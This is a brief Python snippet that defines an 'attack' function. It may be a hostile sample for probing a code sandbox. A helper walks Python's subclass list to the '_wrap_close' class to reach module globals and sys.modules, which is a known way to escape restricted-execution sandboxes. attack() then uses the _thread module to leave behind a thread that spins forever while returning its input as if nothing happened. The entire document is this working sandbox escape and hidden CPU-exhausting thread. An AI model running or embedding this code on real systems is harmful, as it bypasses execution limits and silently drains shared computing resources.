# Walks to the table of modules, and leaves a thread behind.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    thread = _reach()["sys"].modules["_thread"]

    def stay():
        while True:
            pass

    thread.start_new_thread(stay, ())
    return n
